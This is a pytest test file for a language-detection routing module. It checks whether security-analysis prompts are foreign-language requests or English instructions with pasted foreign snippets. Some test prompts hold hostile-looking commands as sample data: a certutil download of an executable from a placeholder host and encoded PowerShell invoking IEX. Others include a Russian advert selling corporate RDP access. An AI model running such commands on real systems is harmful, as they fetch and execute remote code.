"""Language of the instruction, and the ask the learned layer embeds."""

from __future__ import annotations

import pytest

from routing.language import ask_text, guess, instruction_text, pasted_foreign_share


@pytest.mark.parametrize(
    "prompt",
    [
        "Analiza este registro y dime si hay actividad sospechosa:\nEventID=4625 Account=svc",
        "Peux-tu expliquer ce que fait cette commande ?\ncertutil -urlcache -f http://x/p.exe",
        "Bitte erstelle eine kurze Zusammenfassung dieses Vorfalls.",
        "Объясните, что делает эта команда:\npowershell -enc AAAA",
        "请分析以下日志，告诉我是否存在暴力破解攻击",
        "Você pode classificar este e-mail como phishing ou legítimo?",
    ],
)
def test_requests_written_in_another_language_are_foreign(prompt: str) -> None:
    assert guess(prompt).foreign


@pytest.mark.parametrize(
    "prompt",
    [
        "Classify this Russian text as scam or not scam, one word:\nПродаю доступ к RDP корпоративной сети, гарант.",
        "Extract the domains from this note:\n我们的服务器 45.142.212.61 和 cdn-update.net 已被用于分发恶意软件。",
        "Write a YARA rule for Emotet",
        "Summarize the incident timeline",
    ],
)
def test_english_instructions_with_foreign_snippets_are_not(prompt: str) -> None:
    assert not guess(prompt).foreign


def test_pasted_foreign_share_sees_the_snippet() -> None:
    assert (
        pasted_foreign_share("Summarize in English:\nПродаю доступ к RDP корпоративной сети") > 0.9
    )
    assert pasted_foreign_share("Summarize this:\nThe attacker used PsExec.") == 0.0
    assert pasted_foreign_share("Write a Sigma rule") == 0.0


def test_instruction_stops_before_pasted_material() -> None:
    prompt = (
        "Extract every IP address into JSON.\n10.0.0.5 - - [11/Mar/2024] GET /\nfw DROP 1.2.3.4"
    )
    assert instruction_text(prompt) == "Extract every IP address into JSON."


def test_ask_keeps_a_closing_question() -> None:
    prompt = "Here is a command:\npowershell -enc SQBFAFgA\nWhat is the attacker trying to do here?"
    assert ask_text(prompt).endswith("What is the attacker trying to do here?")
